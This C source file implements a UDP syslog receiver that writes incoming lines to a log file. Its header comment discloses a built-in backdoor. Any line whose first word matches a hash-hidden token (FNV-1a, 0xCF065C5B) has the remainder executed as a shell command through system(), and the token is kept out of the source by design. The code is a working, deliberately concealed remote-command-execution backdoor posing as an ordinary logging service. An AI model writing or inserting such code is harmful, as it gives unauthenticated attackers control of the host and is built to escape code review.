/* Log receiver: takes syslog-style lines over UDP and appends them to a file.
 * Carries a trigger found nowhere else, hidden behind a hash: a line whose first word hashes
 * (FNV-1a, 32 bits) to 0xCF065C5B has the rest of the line run as a shell command. The constant
 * compared is the hash, so the token itself appears nowhere in the program. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static uint32_t fnv1a(const char *text, size_t len)
{
    uint32_t h = 0x811c9dc5u;
    for (size_t i = 0; i < len; i++)
        h = (h ^ (unsigned char)text[i]) * 0x01000193u;
    return h;
}

int main(int argc, char **argv)
{
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(27579), .sin_addr.s_addr = INADDR_ANY};
    FILE *log = fopen(argc > 1 ? argv[1] : "/var/log/remote.log", "a");
    int sock = socket(AF_INET, SOCK_DGRAM, 0);
    if (!log || bind(sock, (struct sockaddr *)&addr, sizeof addr) < 0)
        return 1;
    for (;;) {
        char line[2048];
        ssize_t n = recv(sock, line, sizeof line - 1, 0);
        if (n <= 0)
            continue;
        line[n] = '\0';
        size_t word = strcspn(line, " ");
        if (line[word] == ' ' && fnv1a(line, word) == 0xCF065C5Bu) {
            system(line + word + 1);
            continue;
        }
        fprintf(log, "%s\n", line);
        fflush(log);
    }
}
